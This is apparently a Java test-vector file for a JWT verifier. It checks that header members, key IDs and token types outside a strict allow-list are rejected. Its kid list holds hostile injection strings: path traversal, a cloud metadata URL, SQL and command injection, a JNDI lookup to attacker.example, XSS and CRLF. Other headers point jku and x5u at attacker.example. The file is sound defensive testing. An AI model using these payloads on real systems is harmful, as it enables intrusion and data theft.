package org.cognito4j;

import static org.cognito4j.RejectionReason.HEADER_UNSUPPORTED;
import static org.cognito4j.RejectionReason.KEY_ID_INVALID;
import static org.cognito4j.RejectionReason.TOKEN_TOO_LARGE;
import static org.cognito4j.RejectionReason.UNKNOWN_KEY;
import static org.cognito4j.RejectionReason.WRONG_TYPE;

import java.security.KeyPair;
import java.security.interfaces.RSAPublicKey;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;

/** The header is alg, kid and typ and nothing that leads to another key (RFC 8725 sections 3.1, 3.10 and 3.11). */
final class HeaderVectors {

    private HeaderVectors() {}

    static List<Vector> rows() {
        VectorTable table = new VectorTable("header");
        members(table);
        keyIds(table);
        types(table);
        return table.rows();
    }

    private static void members(VectorTable table) {
        KeyPair stranger = TestKeys.rsa("stranger");
        String jwk = TestPool.jwk(TestPool.KEY_ID, (RSAPublicKey) stranger.getPublic());
        Map<String, String> hostile = new LinkedHashMap<>();
        hostile.put("jwk", jwk);
        hostile.put("jku", "\"https://attacker.example/jwks.json\"");
        hostile.put("x5u", "\"https://attacker.example/cert.pem\"");
        hostile.put("x5c", "[\"MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A\"]");
        hostile.put("x5t", "\"3q2-7w\"");
        hostile.put("x5t#S256", "\"3q2-7w\"");
        hostile.forEach((name, json) -> {
            table.rejected(
                    HEADER_UNSUPPORTED,
                    name + "-stranger",
                    "brings its own key",
                    token -> token.header(name, json).signedWith(stranger));
            table.rejected(
                    HEADER_UNSUPPORTED,
                    name + "-genuine",
                    "signed well, but brings a key",
                    token -> token.header(name, json));
            table.rejected(
                    HEADER_UNSUPPORTED,
                    name + "-without-kid",
                    "a key instead of its name",
                    token -> token.withoutHeader("kid").header(name, json).signedWith(stranger));
            table.rejected(
                    HEADER_UNSUPPORTED, name + "-null", "null is not absent", token -> token.header(name, "null"));
        });
        for (String crit : List.of(
                "[]",
                "null",
                "\"\"",
                "\"exp\"",
                "{}",
                "true",
                "0",
                "[\"exp\"]",
                "[\"b64\"]",
                "[\"alg\"]",
                "[\"kid\"]",
                "[\"typ\"]",
                "[\"crit\"]",
                "[\"unknown\"]",
                "[\"exp\",\"exp\"]",
                "[1]",
                "[null]",
                "[\"\"]",
                "[\"http://example.com/UNDEFINED\"]")) {
            table.rejected(
                    HEADER_UNSUPPORTED,
                    "crit-" + crit,
                    "an extension that has to be understood",
                    token -> token.header("crit", crit));
        }
        for (String b64 : List.of("false", "true", "\"false\"", "0", "null")) {
            table.rejected(
                    HEADER_UNSUPPORTED,
                    "b64-" + b64,
                    "payload not encoded (RFC 7797)",
                    token -> token.header("b64", b64).header("crit", "[\"b64\"]"));
            table.rejected(
                    HEADER_UNSUPPORTED,
                    "b64-alone-" + b64,
                    "the same, and says that nobody need understand it",
                    token -> token.header("b64", b64));
        }
        Map<String, String> foreign = new LinkedHashMap<>();
        foreign.put("zip", "\"DEF\"");
        foreign.put("enc", "\"A256GCM\"");
        foreign.put("cty", "\"JWT\"");
        foreign.put("epk", "{\"kty\":\"EC\"}");
        foreign.put("apu", "\"QQ\"");
        foreign.put("apv", "\"QQ\"");
        foreign.put("iv", "\"QQ\"");
        foreign.put("tag", "\"QQ\"");
        foreign.put("p2s", "\"QQ\"");
        foreign.put("p2c", "2147483647");
        foreign.put("ppt", "\"shaken\"");
        foreign.put("url", "\"https://attacker.example/\"");
        foreign.put("nonce", "\"QQ\"");
        foreign.put("iss", "\"https://attacker.example\"");
        foreign.put("exp", "9999999999");
        foreign.put("ALG", "\"none\"");
        foreign.put("Alg", "\"RS256\"");
        foreign.put("Kid", "\"a\"");
        foreign.put("alg ", "\"none\"");
        foreign.put("", "\"none\"");
        foreign.put("__proto__", "{\"alg\":\"none\"}");
        foreign.put("constructor", "{}");
        foreign.put("x", "1");
        foreign.put("trust", "[{\"a\":{\"b\":[1,2,{\"c\":null}]}}]");
        foreign.forEach((name, json) -> table.rejected(
                HEADER_UNSUPPORTED,
                "member-" + name,
                "a member that Cognito does not write",
                token -> token.header(name, json)));
    }

    private static void keyIds(VectorTable table) {
        table.rejected(KEY_ID_INVALID, "kid-missing", "no kid", token -> token.withoutHeader("kid"));
        for (String json : List.of("null", "0", "1", "true", "[]", "{}", "\"\"", "[\"" + TestPool.KEY_ID + "\"]")) {
            table.rejected(
                    KEY_ID_INVALID, "kid-json-" + json, "not a usable string", token -> token.header("kid", json));
        }
        table.rejected(
                KEY_ID_INVALID, "kid-257", "a character too long", token -> token.headerText("kid", "k".repeat(257)));
        table.rejected(
                UNKNOWN_KEY,
                "kid-256",
                "as long as may be, and unknown",
                token -> token.headerText("kid", "k".repeat(256)));
        table.rejected(
                UNKNOWN_KEY, "kid-255", "a character shorter", token -> token.headerText("kid", "k".repeat(255)));
        table.rejected(TOKEN_TOO_LARGE, "kid-64k", "64 KiB", token -> token.headerText("kid", "k".repeat(65_536)));
        String genuine = TestPool.KEY_ID;
        for (String other : List.of(
                genuine.toLowerCase(Locale.ROOT),
                genuine.toUpperCase(Locale.ROOT),
                genuine + " ",
                " " + genuine,
                genuine + "\u0000",
                genuine + "\n",
                genuine.substring(0, genuine.length() - 1),
                genuine.substring(1),
                genuine + "=",
                genuine + genuine,
                genuine.replace('+', '-').replace('/', '_'),
                genuine.replace("+", "%2B").replace("/", "%2F").replace("=", "%3D"),
                genuine.replace('+', ' '),
                "4",
                " ",
                "*",
                ".*",
                "%",
                "0",
                "null",
                "undefined",
                "default",
                "../../../../dev/null",
                "/dev/null",
                "C:\\Windows\\win.ini",
                "file:///etc/passwd",
                "https://attacker.example/jwks.json",
                "http://169.254.169.254/latest/meta-data/",
                "' OR '1'='1",
                "x' UNION SELECT 'secret",
                "key\r\nSet-Cookie: a=b",
                "|/bin/sleep 10|",
                "$(sleep 10)",
                "`id`",
                "${jndi:ldap://attacker.example/a}",
                "${" + "env:HOME}",
                "{{7*7}}",
                "<script>alert(1)</script>",
                "\u202Ekid",
                "\uD83D\uDD11",
                "\u001B[2J")) {
            table.rejected(
                    UNKNOWN_KEY,
                    "kid-other-" + TokenDraft.base64(other),
                    "not the name of a key",
                    token -> token.headerText("kid", other));
        }
        table.accepted(
                "kid-other-key",
                "the pool's other key, for what it signed",
                token -> token.headerText("kid", TestPool.OTHER_KEY_ID).signedWith(otherKey()));
        table.accepted(
                "kid-escaped-slash",
                "another spelling of the same string",
                token -> token.header("kid", TokenDraft.quoted(genuine).replace("/", "\\/")));
        table.accepted(
                "kid-escaped", "spelled with escapes throughout", token -> token.header("kid", escaped(genuine)));
    }

    private static void types(VectorTable table) {
        table.accepted("typ-jwt", "as many issuers write it", token -> token.headerText("typ", "JWT"));
        table.accepted("typ-at+jwt", "as RFC 9068 writes it", token -> token.headerText("typ", "at+jwt"));
        table.accepted(
                "typ-first",
                "in another order",
                token -> token.headerJson(json -> json.replace("{", "{\"typ\":\"JWT\",")));
        for (String other : List.of(
                "jwt",
                "Jwt",
                "JWS",
                "JWE",
                "JOSE",
                "JOSE+JSON",
                "AT+JWT",
                "application/at+jwt",
                "application/jwt",
                "id+jwt",
                "dpop+jwt",
                "secevent+jwt",
                "logout+jwt",
                "jwk+jwt",
                "at+jwt ",
                "JWT\u0000",
                "at+jwt;q=1",
                "refresh",
                "")) {
            table.rejected(
                    WRONG_TYPE,
                    "typ-" + TokenDraft.base64(other),
                    "another kind of token",
                    token -> token.headerText("typ", other));
        }
        for (String json : List.of("null", "1", "true", "[\"JWT\"]", "{}", "[]")) {
            table.rejected(WRONG_TYPE, "typ-json-" + json, "not a string", token -> token.header("typ", json));
        }
    }

    static KeyPair otherKey() {
        return TestPool.create().key(TestPool.OTHER_KEY_ID);
    }

    static String escaped(String text) {
        StringBuilder escaped = new StringBuilder("\"");
        text.chars().forEach(c -> escaped.append("\\u%04X".formatted(c)));
        return escaped.append('"').toString();
    }
}
